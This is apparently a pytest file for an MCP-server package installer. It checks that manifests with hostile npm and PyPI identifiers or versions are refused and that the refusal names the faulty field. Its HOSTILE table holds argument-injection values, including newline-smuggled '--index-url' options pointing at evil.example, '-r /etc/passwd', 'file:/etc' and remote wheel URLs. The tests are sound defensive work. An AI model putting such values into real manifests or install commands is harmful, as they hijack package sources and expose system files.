"""A manifest cannot steer the package managers: hostile identifiers and versions are refused,
naming the field, and nothing is installed or written anywhere."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from repo_helpers import git, run_cli

from vmcp.repository.manifest import ManifestError, manifest_from_data

HOSTILE = {
    # name: (method, package, version, the field named in the refusal)
    "npm-prefix": ("npm", "--prefix=/tmp/elsewhere", "1.0.0", "identifier"),
    "npm-global": ("npm", "--global", None, "identifier"),
    "npm-file-version": ("npm", "hello", "file:/etc", "version"),
    "npm-git-version": ("npm", "hello", "github:evil/hello", "version"),
    "pypi-index": ("pypi", "echo\n--index-url http://evil.example/simple", "1.0", "identifier"),
    "pypi-requirements": ("pypi", "-r /etc/passwd", None, "identifier"),
    "pypi-editable": ("pypi", "-e /tmp/folder", None, "identifier"),
    "pypi-url": ("pypi", "echo @ http://evil.example/echo.whl", None, "identifier"),
    "pypi-version-newline": ("pypi", "echo", "1.0\n--index-url http://evil.example", "version"),
    "pypi-version-range": ("pypi", "echo", ">=1.0", "version"),
}


def hostile_source(root: Path) -> Path:
    """A git repository in the folder layout holding one server per hostile package."""
    repo = root / "servers"
    for name, (method, package, version, _) in HOSTILE.items():
        folder = repo / name
        folder.mkdir(parents=True)
        entry = {"method": method, "package": package}
        if version is not None:
            entry["version"] = version
        (folder / "install.json").write_text(json.dumps(
            {"name": f"example/{name}", "version": "1.0.0", "install": [entry]}))
        (folder / "MANIFEST.md").write_text(f"# {name}\n\nA hostile package.\n")
    (repo / "fine").mkdir()
    (repo / "fine" / "install.json").write_text(json.dumps({
        "name": "example/fine", "version": "1.0.0",
        "install": [{"method": "pypi", "package": "echo_pkg.x-1", "version": "1.0.0rc1"}]}))
    (repo / "fine" / "MANIFEST.md").write_text("# fine\n\nA good one.\n")
    git(root, "init", "-q", "-b", "main", str(repo))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "hostile")
    return repo


def test_hostile_packages_are_refused_naming_the_field(home: Path, tmp_path: Path) -> None:
    run_cli("repo", "add", str(hostile_source(tmp_path)), "--name", "local")
    sync = run_cli("repo", "sync", "-v")
    # only the valid one is offered; each hostile one is reported with the field at fault
    assert [h["name"] for h in json.loads(run_cli("search", "fine", "--json").output)] == [
        "example/fine"]
    assert json.loads(run_cli("search", "hostile", "--json").output) == []
    for name, (_, _, _, field) in HOSTILE.items():
        assert f"skipped local: {name}/install.json: packages.0.{field}: " in sync.output
        refused = run_cli("install", name, "--yes", ok=False)
        assert refused.exit_code == 1 and "in the index" in refused.output, refused.output
    assert "packages.0.identifier: '--prefix=/tmp/elsewhere' is not an npm package name" \
        in sync.output
    assert "packages.0.version: 'file:/etc' is not an npm version" in sync.output
    assert not (home / "installed" / "servers").exists() or not any(
        (home / "installed" / "servers").iterdir())
    assert not Path("/tmp/elsewhere").exists()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_hostile_package_is_refused(name: str) -> None:
    method, package, version, field = HOSTILE[name]
    doc = {"name": f"example/{name}", "description": "x", "version": "1.0.0",
           "packages": [{"registryType": method, "identifier": package, "version": version}]}
    with pytest.raises(ManifestError, match=rf"^packages\.0\.{field}: "):
        manifest_from_data(doc)


@pytest.mark.parametrize("method, package, version", [
    ("pypi", "mcp-server-fetch", "2025.1.17"), ("pypi", "Echo_Pkg.x", "1!2.0.post1+local"),
    ("npm", "@modelcontextprotocol/server-memory", "^0.6.2"), ("npm", "hello", ">=1.0.0 <2"),
    ("npm", "hello", "latest"), ("npm", "JSONStream", "1.x || 2.0.0-beta.1"),
])
def test_ordinary_packages_are_accepted(method: str, package: str, version: str) -> None:
    manifest_from_data({"name": "example/ok", "description": "x", "version": "1.0.0",
                        "packages": [{"registryType": method, "identifier": package,
                                      "version": version}]})
